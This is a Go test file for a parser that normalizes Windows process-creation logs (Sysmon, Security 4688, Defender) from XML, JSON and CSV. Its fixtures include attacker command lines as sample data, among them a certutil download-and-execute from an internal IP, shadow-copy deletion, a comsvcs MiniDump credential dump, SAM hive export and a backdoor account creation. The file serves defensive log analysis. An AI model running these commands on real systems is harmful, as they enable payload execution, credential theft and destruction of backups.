package winevent

import (
	"bufio"
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// sharedDir is ../shared next to the repository root; tests that need it
// skip when it is absent (a fresh clone).
func sharedDir(t testing.TB) string {
	t.Helper()
	dir := filepath.Join("..", "..", "..", "shared")
	if _, err := os.Stat(dir); err != nil {
		t.Skipf("../shared not found (%v): skipping the test that uses the shared samples", err)
	}
	return dir
}

func readLines(t testing.TB, path string) [][]byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var lines [][]byte
	for l := range bytes.Lines(b) {
		lines = append(lines, bytes.TrimRight(l, "\r\n"))
	}
	return lines
}

func mustTime(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

func TestParseXML(t *testing.T) {
	sysmon := readLines(t, "testdata/sysmon_eid1.xml")[0]
	sec := readLines(t, "testdata/security_4688.xml")[0]
	tests := []struct {
		name string
		in   string
		want Record
		err  error
	}{
		{name: "sysmon eid 1", in: string(sysmon), want: Record{
			Time:                    mustTime("2023-03-14T09:26:53.5897932Z"),
			Process:                 `"C:\Windows\system32\cmd.exe" /c "certutil -urlcache -split -f http://10.0.0.5:8080/a.exe %%TEMP%%\a.exe & %%TEMP%%\a.exe > nul" `,
			ProcessName:             "cmd.exe",
			ProcessPath:             `C:\Windows\System32\cmd.exe`,
			ProcessID:               "7716",
			ParentProcess:           `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Downloads\invoice.docm" /o ""`,
			ParentProcessName:       "WINWORD.EXE",
			ParentProcessPath:       `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
			ParentProcessID:         "6604",
			User:                    `CORP\jdoe`,
			Dest:                    "ws-fin-042.corp.example",
			ProcessHash:             "SHA1=0000000000000000000000000000000000000001,MD5=00000000000000000000000000000002,SHA256=0000000000000000000000000000000000000000000000000000000000000003,IMPHASH=00000000000000000000000000000004",
			ProcessGUID:             "{3F2A17C0-3D0D-6410-A201-000000001B02}",
			ParentProcessGUID:       "{3F2A17C0-3D0B-6410-A001-000000001B02}",
			ProcessCurrentDirectory: `C:\Users\jdoe\AppData\Local\Temp\`,
			ProcessIntegrityLevel:   "Medium",
			OriginalFileName:        "Cmd.Exe",
			VendorProduct:           "Microsoft Sysmon",
			Product:                 "Microsoft® Windows® Operating System",
			Company:                 "Microsoft Corporation",
			Description:             "Windows Command Processor",
			FileVersion:             "10.0.19041.746 (WinBuild.160101.0800)",
			ParentUser:              `CORP\jdoe`,
		}},
		{name: "security 4688", in: string(sec), want: Record{
			Time:              mustTime("2023-03-14T09:31:02.1045118Z"),
			Process:           "vssadmin.exe delete shadows /all /quiet",
			ProcessName:       "vssadmin.exe",
			ProcessPath:       `C:\Windows\System32\vssadmin.exe`,
			ProcessID:         "7716",
			ParentProcessName: "cmd.exe",
			ParentProcessPath: `C:\Windows\System32\cmd.exe`,
			ParentProcessID:   "6604",
			User:              `CORP\jdoe`,
			Dest:              "ws-fin-042.corp.example",
			VendorProduct:     "Microsoft Windows",
			ParentUser:        `CORP\jdoe`,
		}},
		{name: "double quotes, entities, no namespace", in: `<Event><System><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>h</Computer></System><EventData><Data Name="Image">C:\x\a&amp;b.exe</Data><Data Name="CommandLine">a &lt;b&gt; &quot;c&quot; &#x41;&#66;</Data></EventData></Event>`,
			want: Record{Process: `a <b> "c" AB`, ProcessName: "a&b.exe", ProcessPath: `C:\x\a&b.exe`, Dest: "h", VendorProduct: "Microsoft Sysmon"}},
		{name: "4688 runs as target", in: `<Event><System><EventID>4688</EventID><Channel>Security</Channel></System><EventData><Data Name='SubjectUserName'>a</Data><Data Name='SubjectDomainName'>D</Data><Data Name='TargetUserSid'>S-1-5-21-1</Data><Data Name='TargetUserName'>svc</Data><Data Name='TargetDomainName'>D2</Data><Data Name='CommandLine'>x</Data></EventData></Event>`,
			want: Record{Process: "x", User: `D2\svc`, ParentUser: `D\a`, VendorProduct: "Microsoft Windows"}},
		{name: "empty data pair and trailing blanks", in: "<Event><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'></Data><Data Name='Image'>a.exe</Data></EventData></Event>  \t",
			want: Record{ProcessName: "a.exe", ProcessPath: "a.exe", VendorProduct: "Microsoft Sysmon"}},
		{name: "event id 1 of another provider", in: `<Event><System><Provider Name='Microsoft-Windows-Kernel-General'/><EventID>1</EventID><Channel>System</Channel></System><EventData/></Event>`, err: ErrSkipped},
		{name: "sysmon network event", in: `<Event><System><EventID>3</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System></Event>`, err: ErrSkipped},
		{name: "4624 logon", in: `<Event><System><EventID>4624</EventID><Channel>Security</Channel></System></Event>`, err: ErrSkipped},
		{name: "truncated", in: string(sysmon[:len(sysmon)/2]), err: ErrSyntax},
		{name: "unknown entity", in: `<Event><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'>&nbsp;</Data></EventData></Event>`, err: ErrSyntax},
		{name: "mismatched tags", in: `<Event><System></Event></System>`, err: ErrSyntax},
		{name: "two events on a line", in: `<Event></Event><Event></Event>`, err: ErrSyntax},
		{name: "text after event", in: `<Event></Event> junk`, err: ErrSyntax},
		{name: "other root", in: `<Events><Event/></Events>`, err: ErrSyntax},
		{name: "NUL byte", in: "<Event>\x00</Event>", err: ErrSyntax},
		{name: "empty", in: "", err: ErrSyntax},
		{name: "json given to the xml parser", in: `{"EventID":1}`, err: ErrSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseXML([]byte(tt.in))
			checkParse(t, got, err, tt.want, tt.err)
		})
	}
}

func checkParse(t *testing.T, got Record, err error, want Record, wantErr error) {
	t.Helper()
	if wantErr != nil {
		if !errors.Is(err, wantErr) {
			t.Fatalf("err = %v, want %v", err, wantErr)
		}
		if errors.Is(wantErr, ErrSyntax) {
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Fatalf("err %T is not a *SyntaxError", err)
			}
		}
		return
	}
	if err != nil {
		t.Fatalf("err = %v", err)
	}
	if !got.Time.Equal(want.Time) {
		t.Errorf("Time = %v, want %v", got.Time, want.Time)
	}
	got.Time, want.Time = time.Time{}, time.Time{}
	if got != want {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}

func TestParseJSON(t *testing.T) {
	fx := readLines(t, "testdata/otrf_style.jsonl")
	tests := []struct {
		name string
		in   string
		want Record
		err  error
	}{
		{name: "nxlog sysmon", in: string(fx[0]), want: Record{
			Time:              mustTime("2023-03-14T09:40:10.905Z"),
			Process:           "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
			ProcessName:       "powershell.exe",
			ProcessPath:       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			ProcessID:         "5120",
			ParentProcess:     "cmd.exe /c start.bat",
			ParentProcessName: "cmd.exe",
			ParentProcessPath: `C:\Windows\System32\cmd.exe`,
			ParentProcessID:   "4480",
			User:              `LAB\analyst`,
			Dest:              "WS-LAB-7.lab.local",
			ProcessHash:       "SHA1=AA,MD5=BB",
			ProcessGUID:       "{6a1c0b2e-4e3a-6410-5c02-000000000700}",
			VendorProduct:     "Microsoft Sysmon",
		}},
		{name: "flat with TimeCreated and numeric ProcessID", in: string(fx[1]), want: Record{
			Time:              mustTime("2023-03-14T09:40:59.876Z"),
			Process:           `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\out.dmp full`,
			ProcessName:       "rundll32.exe",
			ProcessPath:       `C:\Windows\System32\rundll32.exe`,
			ProcessID:         "6012",
			ParentProcess:     "powershell.exe",
			ParentProcessName: "powershell.exe",
			ParentProcessPath: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			ParentProcessID:   "5120",
			User:              `LAB\analyst`,
			Dest:              "WS-LAB-7",
			VendorProduct:     "Microsoft Sysmon",
			ParentUser:        `LAB\analyst`,
		}},
		{name: "nxlog 4688", in: string(fx[2]), want: Record{
			Time:              mustTime("2023-03-14T09:42:00.500Z"),
			Process:           `schtasks /create /tn upd /tr C:\temp\u.exe /sc once /st 10:00`,
			ProcessName:       "schtasks.exe",
			ProcessPath:       `C:\Windows\System32\schtasks.exe`,
			ProcessID:         "2008",
			ParentProcessName: "cmd.exe",
			ParentProcessPath: `C:\Windows\System32\cmd.exe`,
			ParentProcessID:   "696",
			User:              `LAB\WS-LAB-7$`,
			Dest:              "WS-LAB-7.lab.local",
			VendorProduct:     "Microsoft Windows",
			ParentUser:        `LAB\WS-LAB-7$`,
		}},
		{name: "sysmon network connection", in: string(fx[3]), err: ErrSkipped},
		{name: "azure EventData string", in: string(fx[4]), want: Record{
			Time:              mustTime("2023-03-14T09:44:08.42Z"),
			Process:           "net user backdoor P@ss /add",
			ProcessName:       "net.exe",
			ProcessPath:       `C:\Windows\System32\net.exe`,
			ProcessID:         "2084",
			ParentProcess:     "cmd.exe",
			ParentProcessName: "cmd.exe",
			ParentProcessPath: `C:\Windows\System32\cmd.exe`,
			ParentProcessID:   "1999",
			User:              `WORKSTATION9\admin`,
			Dest:              "WORKSTATION9",
			VendorProduct:     "Microsoft Sysmon",
		}},
		{name: "winlogbeat", in: `{"@timestamp":"2023-03-14T10:00:00.000Z","host":{"name":"h1"},"user":{"name":"x"},"process":{"pid":1},"winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"h1.example","event_data":{"CommandLine":"whoami /all","Image":"C:\\Windows\\System32\\whoami.exe","ParentImage":"C:\\Windows\\explorer.exe","User":"EX\\bob","ProcessId":"77"}}}`,
			want: Record{Time: mustTime("2023-03-14T10:00:00Z"), Process: "whoami /all", ProcessName: "whoami.exe", ProcessPath: `C:\Windows\System32\whoami.exe`, ProcessID: "77",
				ParentProcessName: "explorer.exe", ParentProcessPath: `C:\Windows\explorer.exe`, User: `EX\bob`, Dest: "h1.example", VendorProduct: "Microsoft Sysmon"}},
		{name: "defender flat", in: `{"Timestamp":"2024-02-01T08:00:01.1234567Z","DeviceName":"laptop-3","ActionType":"ProcessCreated","FileName":"certutil.exe","FolderPath":"C:\\Windows\\System32\\certutil.exe","SHA256":"ab12","SHA1":"cd34","ProcessId":4242,"ProcessCommandLine":"certutil -decode a.b64 a.exe","ProcessIntegrityLevel":"High","AccountDomain":"corp","AccountName":"eve","InitiatingProcessFileName":"cmd.exe","InitiatingProcessFolderPath":"c:\\windows\\system32\\cmd.exe","InitiatingProcessId":4000,"InitiatingProcessCommandLine":"cmd.exe /c x.bat","ProcessVersionInfoOriginalFileName":"CertUtil.exe"}`,
			want: Record{Time: mustTime("2024-02-01T08:00:01.1234567Z"), Process: "certutil -decode a.b64 a.exe", ProcessName: "certutil.exe", ProcessPath: `C:\Windows\System32\certutil.exe`, ProcessID: "4242",
				ParentProcess: "cmd.exe /c x.bat", ParentProcessName: "cmd.exe", ParentProcessPath: `c:\windows\system32\cmd.exe`, ParentProcessID: "4000", User: `corp\eve`, Dest: "laptop-3",
				ProcessHash: "ab12", ProcessIntegrityLevel: "High", OriginalFileName: "CertUtil.exe", VendorProduct: "Microsoft Defender for Endpoint"}},
		{name: "defender streaming properties", in: `{"time":"2024-02-01T08:00:02Z","category":"AdvancedHunting-DeviceProcessEvents","properties":{"ActionType":"ProcessCreated","DeviceName":"d","FileName":"a.exe","ProcessCommandLine":"a.exe -x","InitiatingProcessFileName":"b.exe","AccountName":"u"}}`,
			want: Record{Time: mustTime("2024-02-01T08:00:02Z"), Process: "a.exe -x", ProcessName: "a.exe", ParentProcessName: "b.exe", User: "u", Dest: "d", VendorProduct: "Microsoft Defender for Endpoint"}},
		{name: "defender other action", in: `{"ActionType":"OpenProcessApiCall","FileName":"a.exe"}`, err: ErrSkipped},
		{name: "no known fields", in: `{"message":"hello"}`, err: ErrSkipped},
		{name: "escapes and unicode", in: `{"EventID":1,"CommandLine":"a\tb \"q\" \u00e9\ud83d\ude00 \\\\srv\\share","Image":"x"}`,
			want: Record{Process: "a\tb \"q\" é😀 \\\\srv\\share", ProcessName: "x", ProcessPath: "x", VendorProduct: "Microsoft Sysmon"}},
		{name: "null and object values", in: `{"EventID":4688,"CommandLine":null,"NewProcessName":{"a":1},"Channel":"Security"}`,
			want: Record{VendorProduct: "Microsoft Windows"}},
		{name: "truncated", in: string(fx[0][:100]), err: ErrSyntax},
		{name: "array", in: `[1,2]`, err: ErrSyntax},
		{name: "scalar", in: `"x"`, err: ErrSyntax},
		{name: "trailing garbage", in: `{"EventID":1} x`, err: ErrSyntax},
		{name: "bad EventData string", in: `{"EventID":1,"EventData":"{\"CommandLine\":"}`, err: ErrSyntax},
		{name: "invalid utf-8 kept as replacement", in: "{\"EventID\":1,\"CommandLine\":\"a\xffb\",\"Image\":\"i\"}",
			want: Record{Process: "a\uFFFDb", ProcessName: "i", ProcessPath: "i", VendorProduct: "Microsoft Sysmon"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseJSON([]byte(tt.in))
			checkParse(t, got, err, tt.want, tt.err)
		})
	}
}

func TestParseCSV(t *testing.T) {
	tests := []struct {
		name   string
		header string
		rec    string
		want   Record
		err    error
	}{
		{name: "sysmon names, quoted comma and quotes", header: "UtcTime,EventID,Computer,Image,CommandLine,ParentImage,User\n",
			rec:  `2023-03-14 09:26:53.588,1,host1,C:\w\cmd.exe,"cmd /c ""echo a,b"" & whoami",C:\w\explorer.exe,D\u` + "\r\n",
			want: Record{Time: mustTime("2023-03-14T09:26:53.588Z"), Process: `cmd /c "echo a,b" & whoami`, ProcessName: "cmd.exe", ProcessPath: `C:\w\cmd.exe`, ParentProcessName: "explorer.exe", ParentProcessPath: `C:\w\explorer.exe`, User: `D\u`, Dest: "host1", VendorProduct: "Microsoft Sysmon"}},
		{name: "multiline field", header: "commandline,image,eventid\n", rec: "\"powershell -c \"\"\n$a=1\n\"\"\",p.exe,1\n",
			want: Record{Process: "powershell -c \"\n$a=1\n\"", ProcessName: "p.exe", ProcessPath: "p.exe", VendorProduct: "Microsoft Sysmon"}},
		{name: "cim names from tstats", header: "_time,Processes.process,Processes.process_name,Processes.parent_process_name,Processes.user,Processes.dest,extra\n",
			rec:  "1678786013.5,whoami,whoami.exe,cmd.exe,u,d,zzz\n",
			want: Record{Time: time.Unix(1678786013, 5e8), Process: "whoami", ProcessName: "whoami.exe", ParentProcessName: "cmd.exe", User: "u", Dest: "d"}},
		{name: "defender export", header: "\xef\xbb\xbfTimestamp,DeviceName,ActionType,FileName,FolderPath,ProcessCommandLine,InitiatingProcessFileName,AccountDomain,AccountName\n",
			rec:  "2024-02-01T08:00:01Z,dev,ProcessCreated,reg.exe,C:\\W\\reg.exe,reg save HKLM\\sam s,cmd.exe,,svc\n",
			want: Record{Time: mustTime("2024-02-01T08:00:01Z"), Process: `reg save HKLM\sam s`, ProcessName: "reg.exe", ProcessPath: `C:\W\reg.exe`, ParentProcessName: "cmd.exe", User: "svc", Dest: "dev", VendorProduct: "Microsoft Defender for Endpoint"}},
		{name: "other event", header: "EventID,CommandLine\n", rec: "3,x\n", err: ErrSkipped},
		{name: "too few fields", header: "EventID,CommandLine,Image\n", rec: "1,x\n", err: ErrFieldCount},
		{name: "too many fields", header: "EventID,CommandLine\n", rec: "1,x,y\n", err: ErrFieldCount},
		{name: "bare quote in quoted field", header: "EventID,CommandLine\n", rec: "1,\"a\"b\"\n", err: ErrSyntax},
		{name: "unterminated quote", header: "EventID,CommandLine\n", rec: "1,\"abc\n", err: ErrSyntax},
		{name: "two records", header: "EventID,CommandLine\n", rec: "1,a\n1,b\n", err: ErrSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, err := ParseCSVHeader([]byte(tt.header))
			if err != nil {
				t.Fatalf("header: %v", err)
			}
			got, err := h.Parse([]byte(tt.rec))
			checkParse(t, got, err, tt.want, tt.err)
		})
	}
}

func TestParseCSVHeaderErrors(t *testing.T) {
	for _, in := range []string{"", "a,b,c\n", "\"unterminated\n", "1,cmd.exe /c whoami,host\n"} {
		if _, err := ParseCSVHeader([]byte(in)); !errors.Is(err, ErrSyntax) {
			t.Errorf("ParseCSVHeader(%q) err = %v, want ErrSyntax", in, err)
		}
	}
}

// TestOTRFSamples parses the shared OTRF extracts: every record is a process
// creation with the CIM fields set.
func TestOTRFSamples(t *testing.T) {
	dir := filepath.Join(sharedDir(t), "samples", "otrf")
	for _, tc := range []struct {
		file   string
		n      int
		vendor string
	}{
		{"sysmon_eid1.jsonl", 2021, "Microsoft Sysmon"},
		{"security_4688.jsonl", 936, "Microsoft Windows"},
	} {
		t.Run(tc.file, func(t *testing.T) {
			f, err := os.Open(filepath.Join(dir, tc.file))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			sc := bufio.NewScanner(f)
			sc.Buffer(nil, 1<<22)
			n, withCmd := 0, 0
			for sc.Scan() {
				n++
				r, err := ParseJSON(sc.Bytes())
				if err != nil {
					t.Fatalf("line %d: %v", n, err)
				}
				if r.VendorProduct != tc.vendor || r.ProcessName == "" || r.ParentProcessName == "" || r.Dest == "" || r.User == "" || r.Time.IsZero() {
					t.Errorf("line %d: missing CIM fields: %+v", n, r)
				}
				if r.Process != "" {
					withCmd++
				}
				if strings.HasPrefix(r.ProcessID, "0x") {
					t.Errorf("line %d: process_id %q not decimal", n, r.ProcessID)
				}
			}
			if n != tc.n {
				t.Errorf("%d records, want %d", n, tc.n)
			}
			t.Logf("%d records, %d with a command line", n, withCmd)
		})
	}
}

func TestSniff(t *testing.T) {
	for in, want := range map[string]Format{
		"":                      FormatAuto,
		" \r\n\t":               FormatAuto,
		"\xef\xbb\xbf<Event>":   FormatXML,
		"\n  {\"a\":1}":         FormatJSONL,
		"CommandLine,Image\n":   FormatCSV,
		"\xef\xbb\xbf\"a\",b\n": FormatCSV,
	} {
		if got := Sniff([]byte(in)); got != want {
			t.Errorf("Sniff(%q) = %v, want %v", in, got, want)
		}
	}
}
